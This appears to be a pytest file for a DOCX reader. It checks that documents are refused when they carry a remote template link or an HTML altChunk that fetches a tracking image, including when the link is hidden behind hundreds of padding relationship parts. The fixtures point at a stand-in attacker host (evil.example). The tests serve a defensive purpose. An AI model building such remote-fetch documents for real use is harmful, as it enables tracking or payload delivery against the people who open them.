"""A case study cannot hide a relationship that fetches when opened behind many harmless
relationship parts: every part Word reads is looked at, or the file is refused."""

from __future__ import annotations

import io
import zipfile

import pytest

from bot.campaign.schema import Campaign
from bot.documents.docx_reader import DocxError, read_docx
from tests.documents.test_documents_clean import REL_TYPES, R, W, rewrite, with_relationship
from tests.support.selected import case_with

EMPTY_RELS = (
    b'<?xml version="1.0"?><Relationships '
    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
)


def padded(data: bytes, parts: int) -> bytes:
    """``data`` with ``parts`` empty relationship parts stored before every other member."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for index in range(parts):
            target.writestr(f"pad/_rels/part{index}.xml.rels", EMPTY_RELS)
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
    return out.getvalue()


@pytest.mark.parametrize("parts", [10, 250, 1500])
def test_a_remote_template_behind_many_relationship_parts_is_refused(
    shipped_campaign: Campaign, parts: int
) -> None:
    case = case_with(shipped_campaign, "正文").to_bytes()
    remote = with_relationship(
        case, "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/t.dotm"
    )
    with pytest.raises(DocxError):
        read_docx(padded(remote, parts))


def with_html_chunk(data: bytes) -> bytes:
    """``data`` with an altChunk: an HTML part Word converts when it opens the file, remote picture
    and all (the text of it is never seen by the case check)."""
    html = b'<html><body><p>chunk text</p><img src="http://evil.example/track.png"></body></html>'

    def body(content: bytes) -> bytes:
        chunk = f'<w:altChunk xmlns:w="{W}" xmlns:r="{R}" r:id="rIdChunk"/>'.encode()
        return content.replace(b"</w:body>", chunk + b"</w:body>", 1)

    def rels(content: bytes) -> bytes:
        extra = f'<Relationship Id="rIdChunk" Type="{REL_TYPES}/aFChunk" Target="chunk.html"/>'
        return content.replace(b"</Relationships>", extra.encode() + b"</Relationships>")

    def types(content: bytes) -> bytes:
        return content.replace(b"</Types>", b'<Default Extension="html" ContentType="text/html"/></Types>')

    return rewrite(
        data,
        {
            "word/document.xml": body,
            "word/_rels/document.xml.rels": rels,
            "[Content_Types].xml": types,
            "word/chunk.html": html,
        },
    )


def test_a_case_with_a_chunk_word_imports_on_opening_is_refused(shipped_campaign: Campaign) -> None:
    with pytest.raises(DocxError) as refused:
        read_docx(with_html_chunk(case_with(shipped_campaign, "正文").to_bytes()))
    assert refused.value.params.get("detected") == "external"
